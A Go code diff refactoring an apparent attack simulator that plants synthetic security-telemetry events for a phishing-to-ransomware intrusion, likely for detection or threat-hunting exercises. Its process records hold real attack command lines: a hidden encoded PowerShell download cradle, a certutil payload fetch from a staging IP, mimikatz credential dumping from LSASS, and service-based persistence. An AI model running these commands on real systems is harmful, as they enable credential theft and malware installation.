@@ -273,46 +273,9 @@ func (a *Attack) initialAccess(day int64) {
 	outlook := procIn(d, ss, "OUTLOOK.EXE")
 	a.step(day+9*tHour+41*tMinute, nil, "EmailEvents",
 		"phishing mail delivered to 5 mailboxes")
-
-	click := t + 2*tMinute + 44*tSecond
-	edge := a.g.cat.get("msedge.exe").Path
-	browser := s.spawn(outlook, "msedge.exe", click+tSecond, 20*tMinute, u,
-		`"`+edge+`" --single-argument `+a.PhishURL)
-	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: outlook, at: click,
-		ev: devEvent{action: "BrowserLaunchedToOpenUrl", target: -1,
-			url: a.PhishURL}})
-	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: browser,
-		at: click + 2*tSecond, net: conn{rip: "185.225.73.40", rport: 443,
-			url: a.PhishDomain}})
-	a.step(click, d, "UrlClickEvents", "victim clicks the phishing link")
-
-	save := t + 4*tMinute + 5*tSecond
-	doc := userHome(u) + outlookCache + a.Attachment
-	a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: outlook, at: save,
-		file: fileEvent{action: "FileCreated", path: doc,
-			key: a.Attachment + "|phish", size: 48_213}})
-	word := s.spawn(outlook, "WINWORD.EXE", save+4*tSecond, 40*tMinute, u,
-		`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "`+
-			doc+`" /o ""`)
-	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: word,
-		at: save + 6*tSecond, lib: "VBE7.DLL"})
-	a.step(save, d, "DeviceFileEvents", "attachment saved by Outlook")
-
-	ps := s.spawn(word, "powershell.exe", t+5*tMinute+12*tSecond, 30*tMinute,
-		u, psPath+" -nop -w hidden -enc "+a.EncodedScript)
-	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: word,
-		at: t + 5*tMinute + 12*tSecond, ev: devEvent{
-			action: "AsrOfficeChildProcessAudited", target: ps,
-			addl: `{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}`}})
-	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: ps,
-		at: t + 5*tMinute + 14*tSecond, ev: devEvent{
-			action: "PowerShellCommand", target: -1,
-			addl: jsonObj("Command", "IEX")}})
-	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: ps,
-		at:  t + 5*tMinute + 15*tSecond,
-		net: conn{rip: a.StagingIP, rport: 80}})
-	a.step(t+5*tMinute+12*tSecond, d, "DeviceProcessEvents",
-		"Word runs encoded PowerShell")
+	a.click(d, outlook, t+2*tMinute+44*tSecond)
+	word := a.openAttachment(d, outlook, t+4*tMinute+5*tSecond)
+	ps := a.encodedPowerShell(d, word, t+5*tMinute+12*tSecond)
 
 	cu := s.spawn(ps, "certutil.exe", t+5*tMinute+40*tSecond, 20*tSecond, u,
 		"certutil.exe -urlcache -split -f http://"+a.StagingIP+
@@ -326,6 +289,56 @@ func (a *Attack) initialAccess(day int64) {
 	a.persist(d, imp, t+9*tMinute)
 	a.recon(d, imp, t+31*tMinute)
 	a.lolbins(d, imp, t+74*tMinute)
+}
+
+// click is the victim following the mail's link: Outlook hands the URL
+// to the browser, which connects to the phishing site.
+func (a *Attack) click(d *Device, outlook int32, at int64) {
+	edge := a.g.cat.get("msedge.exe").Path
+	browser := d.sim.spawn(outlook, "msedge.exe", at+tSecond, 20*tMinute,
+		a.Victim, `"`+edge+`" --single-argument `+a.PhishURL)
+	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: outlook, at: at,
+		ev: devEvent{action: "BrowserLaunchedToOpenUrl", target: -1,
+			url: a.PhishURL}})
+	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: browser,
+		at: at + 2*tSecond, net: conn{rip: "185.225.73.40", rport: 443,
+			url: a.PhishDomain}})
+	a.step(at, d, "UrlClickEvents", "victim clicks the phishing link")
+}
+
+// openAttachment saves the attachment from Outlook and opens it in
+// Word, which loads the macro runtime. It returns Word's process.
+func (a *Attack) openAttachment(d *Device, outlook int32, at int64) int32 {
+	u := d.sim.procs[outlook].acct
+	doc := userHome(u) + outlookCache + a.Attachment
+	a.add(plantedEvent{table: "DeviceFileEvents", d: d, pi: outlook, at: at,
+		file: fileEvent{action: "FileCreated", path: doc,
+			key: a.Attachment + "|phish", size: 48_213}})
+	word := d.sim.spawn(outlook, "WINWORD.EXE", at+4*tSecond, 40*tMinute, u,
+		`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "`+
+			doc+`" /o ""`)
+	a.add(plantedEvent{table: "DeviceImageLoadEvents", d: d, pi: word,
+		at: at + 6*tSecond, lib: "VBE7.DLL"})
+	a.step(at, d, "DeviceFileEvents", "attachment saved by Outlook")
+	return word
+}
+
+// encodedPowerShell is the macro starting PowerShell with an encoded
+// download cradle; attack surface reduction audits it. It returns
+// PowerShell's process.
+func (a *Attack) encodedPowerShell(d *Device, word int32, at int64) int32 {
+	ps := d.sim.spawn(word, "powershell.exe", at, 30*tMinute, a.Victim,
+		psPath+" -nop -w hidden -enc "+a.EncodedScript)
+	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: word, at: at,
+		ev: devEvent{action: "AsrOfficeChildProcessAudited", target: ps,
+			addl: `{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}`}})
+	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: ps,
+		at: at + 2*tSecond, ev: devEvent{action: "PowerShellCommand",
+			target: -1, addl: jsonObj("Command", "IEX")}})
+	a.add(plantedEvent{table: "DeviceNetworkEvents", d: d, pi: ps,
+		at: at + 3*tSecond, net: conn{rip: a.StagingIP, rport: 80}})
+	a.step(at, d, "DeviceProcessEvents", "Word runs encoded PowerShell")
+	return ps
 }
 
 // download records a file fetched from the staging server by process pi.
@@ -529,8 +542,30 @@ func (a *Attack) externalSpray(t int64) {
 }
 
 func (a *Attack) lateralMovement(day int64) {
-	src, dst := a.VictimDevice, a.FileServer
 	t := day + 9*tHour + 20*tMinute
+	rs, clip := a.remoteDesktop(t)
+	dst, s, u := a.FileServer, a.FileServer.sim, a.SprayedAccount
+	for i, tool := range []string{`C:\Windows\Temp\m.exe`,
+		`C:\Windows\Temp\svchelper.exe`} {
+		_, name := splitPath(tool)
+		img := a.g.cat.get(name)
+		a.add(plantedEvent{table: "DeviceFileEvents", d: dst, pi: clip,
+			at: t + 3*tMinute + int64(i)*tMinute, file: fileEvent{
+				action: "FileCreated", path: tool,
+				key: imageKey(img), size: img.Size}})
+	}
+	cmd := s.spawn(rs.explorer, "cmd.exe", t+8*tMinute, 30*tMinute, u,
+		`"C:\Windows\system32\cmd.exe" `)
+	a.mimikatz(cmd, t+11*tMinute)
+	a.localAdmin(dst, cmd, t+18*tMinute)
+	a.installService(cmd, t+24*tMinute)
+}
+
+// remoteDesktop is the attacker connecting from the victim's workstation
+// to the file server with the sprayed account. It returns the session and
+// its clipboard process, which writes the files pasted over it.
+func (a *Attack) remoteDesktop(t int64) (*session, int32) {
+	src, dst := a.VictimDevice, a.FileServer
 	ss := userSession(src, t)
 	imp := src.sim.spawn(ss.explorer, "update.exe", ss.start+40*tSecond,
 		ss.end-ss.start-tMinute, a.Victim, a.Implant)
@@ -549,48 +584,49 @@ func (a *Attack) lateralMovement(day int64) {
 	clip := s.spawn(s.svcNet, "rdpclip.exe", t+18*tSecond, 40*tMinute, u,
 		"rdpclip")
 	s.userProc(clip, rs)
-	s.procs[clip].integ = intHigh
 	a.step(t, dst, "DeviceLogonEvents", "remote desktop logon as svc-backup")
+	return rs, clip
+}
 
-	for i, tool := range []string{`C:\Windows\Temp\m.exe`,
-		`C:\Windows\Temp\svchelper.exe`} {
-		_, name := splitPath(tool)
-		img := a.g.cat.get(name)
-		a.add(plantedEvent{table: "DeviceFileEvents", d: dst, pi: clip,
-			at: t + 3*tMinute + int64(i)*tMinute, file: fileEvent{
-				action: "FileCreated", path: tool,
-				key: imageKey(img), size: img.Size}})
-	}
-	cmd := s.spawn(rs.explorer, "cmd.exe", t+8*tMinute, 30*tMinute, u,
-		`"C:\Windows\system32\cmd.exe" `)
-	mk := s.spawn(cmd, "m.exe", t+11*tMinute, 20*tSecond, u,
+// mimikatz runs the credential theft tool, which opens LSASS and which
+// the antivirus detects but does not stop.
+func (a *Attack) mimikatz(cmd int32, at int64) {
+	d := a.FileServer
+	s := d.sim
+	mk := s.spawn(cmd, "m.exe", at, 20*tSecond, a.SprayedAccount,
 		`m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`)
-	lsass := procNamed(s.asDevice(), "lsass.exe", t)
-	a.add(plantedEvent{table: "DeviceEvents", d: dst, pi: mk,
-		at: t + 11*tMinute + 2*tSecond, ev: devEvent{
-			action: "OpenProcessApiCall", target: lsass,
-			addl: `{"DesiredAccess":5136}`}})
-	a.add(plantedEvent{table: "DeviceEvents", d: dst, pi: mk,
-		at: t + 11*tMinute + 4*tSecond, ev: devEvent{
-			action: "AntivirusDetection", file: `C:\Windows\Temp\m.exe`,
-			fileKey: imageKey(a.g.cat.get("m.exe")), target: -1,
-			addl: `{"ThreatName":"HackTool:Win32/Mimikatz!pz","WasExecutingWhileDetected":true,"WasRemediated":false,"Category":"Tool"}`}})
-	a.step(t+11*tMinute, dst, "DeviceProcessEvents", "mimikatz sekurlsa")
+	lsass := procNamed(s.asDevice(), "lsass.exe", at)
+	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: mk,
+		at: at + 2*tSecond, ev: devEvent{action: "OpenProcessApiCall",
+			target: lsass, addl: `{"DesiredAccess":5136}`}})
+	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: mk,
+		at: at + 4*tSecond, ev: devEvent{action: "AntivirusDetection",
+			file: `C:\Windows\Temp\m.exe`, target: -1,
+			fileKey: imageKey(a.g.cat.get("m.exe")),
+			addl: `{"ThreatName":"HackTool:Win32/Mimikatz!pz",` +
+				`"WasExecutingWhileDetected":true,"WasRemediated":false,` +
+				`"Category":"Tool"}`}})
+	a.step(at, d, "DeviceProcessEvents", "mimikatz sekurlsa")
+}
 
-	a.localAdmin(dst, cmd, t+18*tMinute)
-	sc := s.spawn(cmd, "sc.exe", t+24*tMinute, 2*tSecond, u,
-		`sc  create `+a.ServiceName+` binPath= "C:\Windows\Temp\svchelper.exe" start= auto`)
-	a.add(plantedEvent{table: "DeviceRegistryEvents", d: dst,
-		pi: s.services, at: t + 24*tMinute + tSecond, reg: regEvent{
-			key: servicesKey + a.ServiceName, vtype: "ExpandString",
-			name: "ImagePath", data: `C:\Windows\Temp\svchelper.exe`}})
-	a.add(plantedEvent{table: "DeviceEvents", d: dst, pi: s.services,
-		at: t + 24*tMinute + tSecond, ev: devEvent{action: "ServiceInstalled",
-			target: -1, acct: u, file: `C:\Windows\Temp\svchelper.exe`,
+// installService registers the ransomware as an auto-start service.
+func (a *Attack) installService(cmd int32, at int64) {
+	d, u := a.FileServer, a.SprayedAccount
+	s := d.sim
+	const bin = `C:\Windows\Temp\svchelper.exe`
+	s.spawn(cmd, "sc.exe", at, 2*tSecond, u, `sc  create `+a.ServiceName+
+		` binPath= "`+bin+`" start= auto`)
+	a.add(plantedEvent{table: "DeviceRegistryEvents", d: d, pi: s.services,
+		at: at + tSecond, reg: regEvent{key: servicesKey + a.ServiceName,
+			vtype: "ExpandString", name: "ImagePath", data: bin}})
+	a.add(plantedEvent{table: "DeviceEvents", d: d, pi: s.services,
+		at: at + tSecond, ev: devEvent{action: "ServiceInstalled",
+			target: -1, acct: u, file: bin,
 			fileKey: imageKey(a.g.cat.get("svchelper.exe")),
-			addl:    `{"ServiceName":"` + a.ServiceName + `","ServiceType":"Win32OwnProcess","ServiceStartType":"Auto start","ServiceAccount":"LocalSystem"}`}})
-	_ = sc
-	a.step(t+24*tMinute, dst, "DeviceEvents", "service persistence")
+			addl: `{"ServiceName":"` + a.ServiceName + `",` +
+				`"ServiceType":"Win32OwnProcess","ServiceStartType":` +
+				`"Auto start","ServiceAccount":"LocalSystem"}`}})
+	a.step(at, d, "DeviceEvents", "service persistence")
 }
 
 func (a *Attack) impact(t int64) {
